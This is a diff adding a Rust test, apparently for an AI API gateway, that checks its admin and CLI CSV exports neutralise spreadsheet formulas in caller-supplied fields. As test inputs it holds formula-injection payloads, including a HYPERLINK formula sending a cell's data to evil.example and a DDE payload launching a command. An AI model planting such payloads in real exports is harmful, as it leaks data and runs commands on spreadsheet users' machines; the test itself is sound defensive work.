@@ -497,6 +497,113 @@ fn records_are_listed_newest_first_filtered_paged_and_exported() {
     assert!(lines[1].starts_with(&ids[0]), "oldest first: {text}");
 }
 
+/// The cells of `text` (a CSV export with its header) in the `column`s named, one row per
+/// line, as a spreadsheet's CSV reader reads them.
+fn csv_cells(text: &str, columns: &[&str]) -> Vec<Vec<String>> {
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header = reader.headers().expect("a header").clone();
+    let at: Vec<usize> = columns
+        .iter()
+        .map(|name| {
+            header
+                .iter()
+                .position(|h| h == *name)
+                .unwrap_or_else(|| panic!("no {name} in {header:?}"))
+        })
+        .collect();
+    reader
+        .records()
+        .map(|row| {
+            let row = row.unwrap_or_else(|e| panic!("not CSV: {e}\n{text}"));
+            at.iter().map(|&i| row[i].to_owned()).collect()
+        })
+        .collect()
+}
+
+#[test]
+fn a_callers_formula_is_exported_as_text_by_the_admin_csv_and_the_cli() {
+    let upstream = upstream();
+    let gw = console_gateway(&upstream);
+    let hyperlink = r#"=HYPERLINK("https://evil.example/?d="&A1,"open")"#;
+    let sent = [
+        (hyperlink, "@SUM(1+1)"),
+        ("+cmd|' /C calc'!A0", "-2+3"),
+        ("\t=1+1", MODEL),
+    ];
+    for (user, model) in sent {
+        let body = json!({
+            "model": format!("openai/{model}"),
+            "messages": [{"role": "user", "content": "hi"}],
+            "max_tokens": 8,
+            "user": user,
+        });
+        let response = gw.post_as("/v1/chat/completions", Some(&gw.key), &body);
+        ok(&response);
+        gw.record(response.header("x-invocation-id").expect("an id"));
+    }
+    let expected: Vec<Vec<String>> = sent
+        .iter()
+        .map(|(user, model)| {
+            let model = if model.starts_with(['@', '-']) {
+                format!("'{model}")
+            } else {
+                (*model).to_owned()
+            };
+            vec![
+                format!("'{user}"),
+                model,
+                "openai".to_owned(),
+                "12".to_owned(),
+            ]
+        })
+        .collect();
+    let columns = ["user_id", "model", "route", "total_tokens"];
+
+    let admin = gw.get(
+        &format!("/admin/invocations.csv?projectId={}", gw.project_id),
+        Some(ADMIN_TOKEN),
+    );
+    assert_eq!(admin.status, 200, "{}", admin.text());
+    assert_eq!(
+        csv_cells(&admin.text(), &columns),
+        expected,
+        "{}",
+        admin.text()
+    );
+
+    let since = &yesterday();
+    let cli = gw.cli_ok(&[
+        "invocations",
+        "export",
+        "--since",
+        since,
+        "--project",
+        &gw.project_id,
+        "--format",
+        "csv",
+    ]);
+    assert_eq!(csv_cells(&cli, &columns), expected, "{cli}");
+    // No cell of either starts as a formula would.
+    for text in [admin.text(), cli] {
+        for row in csv::Reader::from_reader(text.as_bytes()).records() {
+            let row = row.expect("CSV");
+            for cell in row.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?} in {text}"
+                );
+            }
+        }
+    }
+}
+
+/// Yesterday's UTC date (`YYYY-MM-DD`): a `--since` that takes in every record of the test,
+/// whenever it runs.
+fn yesterday() -> String {
+    let yesterday = std::time::SystemTime::now() - std::time::Duration::from_secs(86_400);
+    humantime::format_rfc3339(yesterday).to_string()[..10].to_owned()
+}
+
 #[test]
 fn keys_and_routes_show_no_secret() {
     let upstream = upstream();
